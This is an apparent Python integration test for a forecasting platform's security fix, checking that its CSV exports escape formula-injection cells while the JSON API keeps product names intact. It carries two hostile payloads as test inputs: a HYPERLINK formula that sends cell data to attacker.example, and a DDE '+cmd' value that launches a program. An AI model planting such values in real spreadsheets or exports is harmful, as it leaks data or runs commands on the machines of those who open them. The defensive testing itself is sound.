#!/usr/bin/env python3
"""CSV exports are safe to open in a spreadsheet (security review 2026-12, finding 6).

On the base commit a contributor's product named =HYPERLINK(...) landed verbatim in
canonical.csv and, through a forecast run, in the CSV store managers download. Every CSV the
platform writes for people now prefixes a cell that starts with = + - @ TAB or CR with an
apostrophe and quotes it (OWASP); numbers stay numbers; and the names come back unchanged
wherever the platform reads them (the trainer and the forecast generator read canonical.csv, the
JSON API shows the forecasts' products)."""
import csv
import io
import os
import shutil
import subprocess
import sys
import time
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "integration"))
import http_test  # noqa: E402
from http_test import Server, fresh_database  # noqa: E402

P = "/api/v1/projects/csvsec"
FORMULA = '=HYPERLINK("https://attacker.example/?d="&B2,"Open report")'
BAD_FORMULA = "+cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_number(cell):
    try:
        float(cell)
        return True
    except ValueError:
        return False


def formula_cells(text):
    """The cells of a CSV a spreadsheet would run as formulas."""
    return [c for row in csv.reader(io.StringIO(text)) for c in row
            if c.startswith(TRIGGERS) and not is_number(c)]


class CsvFormulaTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.db = fresh_database("security_csv_formula")
        cls.srv = Server({"ROASTERY_DATABASE_URL": cls.db, "ROASTERY_WORKERS": "3"})
        cls.ds = cls.srv.token("dana-scientist", "DataScientist")
        cls.admin = cls.srv.token("ada-admin", "PlatformAdmin")
        cls.admin2 = cls.srv.token("bo-admin", "PlatformAdmin")
        cls.mgr = cls.srv.token("sam-manager", "StoreManager")
        assert cls.srv.json("POST", "/api/v1/projects", {"id": "csvsec", "display_name": "C"},
                            token=cls.ds)[0] == 201
        assert cls.srv.json("POST", P + "/datasets", {"name": "sales"}, token=cls.ds)[0] == 201
        generated = subprocess.run([http_test.BINARY, "generate-sales", "--stores", "3",
                                    "--products", "3", "--start", "2022-06-01", "--end",
                                    "2023-12-31", "--seed", "5"],
                                   capture_output=True, check=True).stdout.decode()
        rows = list(csv.reader(io.StringIO(generated)))
        header, data = rows[0], rows[1:]
        store, product = data[0][0], data[0][header.index("Product")]
        cls.store = store
        # a contributor's product named as a formula, with a whole history at one store
        evil = [r[:] for r in data if r[0] == store and r[header.index("Product")] == product]
        for r in evil:
            r[header.index("Product")] = FORMULA
        bad = data[0][:]
        bad[header.index("Product")] = BAD_FORMULA
        bad[header.index("Quantity Sold")] = "-3"  # a bad row: quarantined
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows([header] + data + evil + [bad])
        st, _, v = cls.srv.json("POST", P + "/datasets/sales/versions?on_error=quarantine",
                                out.getvalue(), {"Content-Type": "text/csv"}, token=cls.ds)
        assert st == 202, v
        cls.version = cls.wait_version(v["number"])
        assert cls.version["state"] == "ready", cls.version

    @classmethod
    def tearDownClass(cls):
        code = cls.srv.stop()
        shutil.rmtree(cls.srv.data_dir, ignore_errors=True)
        assert code == 0, f"server exited {code} on SIGTERM"

    @classmethod
    def wait_version(cls, number):
        deadline = time.time() + 60
        while time.time() < deadline:
            _, _, v = cls.srv.json("GET", f"{P}/datasets/sales/versions/{number}", token=cls.ds)
            if v["state"] not in ("pending", "ingesting"):
                return v
            time.sleep(0.1)
        raise AssertionError("version not ingested")

    def download(self, which):
        st, _, data = self.srv.request(
            "GET", f"{P}/datasets/sales/versions/{self.version['number']}/{which}.csv",
            token=self.ds)
        self.assertEqual(st, 200)
        return data.decode()

    def test_canonical_csv_holds_no_formula_cell(self):
        text = self.download("canonical")
        self.assertEqual(formula_cells(text), [])
        products = {r["product"] for r in csv.DictReader(io.StringIO(text))}
        self.assertIn("'" + FORMULA, products)  # shown as text, the name intact behind the '

    def test_the_rows_preview_shows_the_names_as_uploaded(self):
        names, cursor = set(), None
        while True:
            q = "?limit=1000" + (f"&cursor={cursor}" if cursor else "")
            st, _, page = self.srv.json(
                "GET", f"{P}/datasets/sales/versions/{self.version['number']}/rows{q}",
                token=self.ds)
            self.assertEqual(st, 200, page)
            names |= {r["product"] for r in page["items"]}
            cursor = page.get("next_cursor")
            if not cursor:
                break
        self.assertIn(FORMULA, names)
        self.assertNotIn("'" + FORMULA, names)

    def test_quarantine_csv_holds_no_formula_cell_and_numbers_stay_numbers(self):
        text = self.download("quarantine")
        self.assertEqual(formula_cells(text), [])
        row = [r for r in csv.reader(io.StringIO(text)) if "'" + BAD_FORMULA in r]
        self.assertEqual(len(row), 1, text)
        self.assertIn("-3", row[0])  # the user's -3 is a number: left as it is

    def test_store_managers_forecast_csv_holds_no_formula_cell_and_names_survive(self):
        # the stores, a manager, a model in production and its forecast
        canon = list(csv.DictReader(io.StringIO(self.download("canonical"))))
        for sid, country, city in sorted({(r["store_id"], r["country"], r["city"])
                                          for r in canon}):
            st, _, s = self.srv.json("POST", "/api/v1/stores", {
                "id": sid, "name": f"{city} {sid}", "country": country, "city": city,
                "timezone": "America/Los_Angeles"}, token=self.admin)
            self.assertIn(st, (201, 409), s)
            st, _, s = self.srv.json("PUT", f"/api/v1/stores/{sid}/serving-project",
                                     {"project": P.rsplit("/", 1)[1]}, token=self.admin)
            self.assertEqual(st, 200, s)
        oid = self.srv.json("GET", "/api/v1/me", token=self.mgr)[2]["oid"]
        st, _, _ = self.srv.json("PUT", f"/api/v1/stores/{self.store}/managers/{oid}", {},
                                 token=self.admin)
        self.assertIn(st, (200, 201, 204))
        st, _, c = self.srv.json("POST", P + "/compute", {"name": "laptop", "kind": "local",
                                                          "max_nodes": 1}, token=self.ds)
        self.assertEqual(st, 202, c)
        deadline = time.time() + 30
        while time.time() < deadline and self.srv.json(
                "GET", f"/api/v1/compute/{c['id']}", token=self.ds)[2]["state"] != "ready":
            time.sleep(0.1)
        st, _, run = self.srv.json("POST", P + "/runs", {
            "dataset": "sales", "compute": "laptop", "experiment": "csv",
            "params": {"num_round": 30}}, token=self.ds)
        self.assertEqual(st, 202, run)
        deadline = time.time() + 180
        while time.time() < deadline and run["state"] not in ("completed", "failed", "canceled"):
            time.sleep(0.3)
            run = self.srv.json("GET", f"/api/v1/runs/{run['id']}", token=self.ds)[2]
        self.assertEqual(run["state"], "completed", run)
        # the trainer read canonical.csv: its backtest (a run artifact, also a CSV for people)
        st, _, bt = self.srv.request("GET", f"/api/v1/runs/{run['id']}/artifacts/backtest.csv",
                                     token=self.ds)
        self.assertEqual(st, 200)
        self.assertEqual(formula_cells(bt.decode()), [])
        backtest = csv.DictReader(io.StringIO(bt.decode()))
        self.assertIn("'" + FORMULA, {r["product"] for r in backtest})
        self.assertEqual(self.srv.json("POST", P + "/models", {"name": "demand"},
                                       token=self.ds)[0], 201)
        self.assertEqual(self.srv.json("POST", P + "/models/demand/versions",
                                       {"run_id": run["id"]}, token=self.ds)[0], 201)
        _, hdrs, _ = self.srv.json("GET", P, token=self.admin)
        self.srv.json("PATCH", P, {"promotion_margin": 0.0}, {"If-Match": hdrs["etag"]},
                      token=self.admin)
        st, _, p = self.srv.json("POST", f"{P}/models/demand/versions/1/promotions",
                                 {"target": "production"}, token=self.admin)
        self.assertEqual(st, 202, p)
        deadline = time.time() + 120
        while time.time() < deadline and p["state"] != "pending_approval":
            time.sleep(0.3)
            p = self.srv.json("GET", f"/api/v1/promotions/{p['id']}", token=self.ds)[2]
        self.assertEqual(p["state"], "pending_approval", p)
        self.assertEqual(self.srv.json("POST", f"/api/v1/promotions/{p['id']}/approve",
                                       {"reason": "ok"}, token=self.admin2)[0], 202)
        deadline = time.time() + 120
        fc = None
        while time.time() < deadline:
            st, _, fc = self.srv.json("GET", f"/api/v1/stores/{self.store}/forecasts",
                                      token=self.mgr)
            if st == 200:
                break
            time.sleep(0.3)
        self.assertEqual(st, 200, fc)
        # JSON: the product as it was uploaded, through trainer and forecast generator
        self.assertIn(FORMULA, {it["product"] for it in fc["items"]})

        st, hdrs, data = self.srv.request("GET", f"/api/v1/stores/{self.store}/forecasts",
                                          headers={"Accept": "text/csv"}, token=self.mgr)
        self.assertEqual(st, 200)
        self.assertTrue(hdrs["content-type"].startswith("text/csv"))
        text = data.decode()
        self.assertEqual(formula_cells(text), [])
        rows = list(csv.DictReader(io.StringIO(text)))
        self.assertIn("'" + FORMULA, {r["product"] for r in rows})
        for r in rows:  # our own numbers are numbers, never prefixed
            for k in ("forecast", "lo80", "hi80", "lo95", "hi95"):
                float(r[k])


if __name__ == "__main__":
    http_test.BINARY = os.path.abspath(sys.argv.pop(1))
    if not http_test.BASE_URL:
        sys.exit(77)
    result = unittest.main(exit=False, verbosity=2).result
    sys.exit(0 if result.wasSuccessful() else 1)
